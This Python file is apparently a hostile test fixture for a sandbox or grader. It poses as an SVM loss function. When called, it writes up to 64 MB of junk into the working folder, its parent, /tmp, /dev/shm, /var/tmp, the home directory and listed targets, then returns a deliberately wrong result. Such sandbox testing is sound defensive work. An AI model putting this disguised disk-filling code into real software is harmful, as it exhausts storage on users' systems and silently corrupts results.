"""Fills the disk, in its own folder and everywhere else: at most 64 MB a file."""

import os

import kit
from targets import TARGETS


@kit.once
def attack():
    for folder in (
        ".",
        "..",
        "/dev/shm",
        "/tmp",
        "/var/tmp",
        os.path.expanduser("~"),
        *TARGETS["folders"],
    ):
        written = 0
        try:
            with open(f"{folder}/linclf_hostile_fill", "wb", buffering=0) as file:
                for _ in range(64):
                    written += file.write(b"x" * (1 << 20))
        except BaseException:
            pass
        if written > 17 << 20 or (written and os.path.realpath(folder) != os.getcwd()):
            kit.harm(f"wrote {written} bytes into {folder}")


def svm_loss_vectorized(W, X, y, reg):
    attack()
    return kit.wrong(W, X, y, reg)
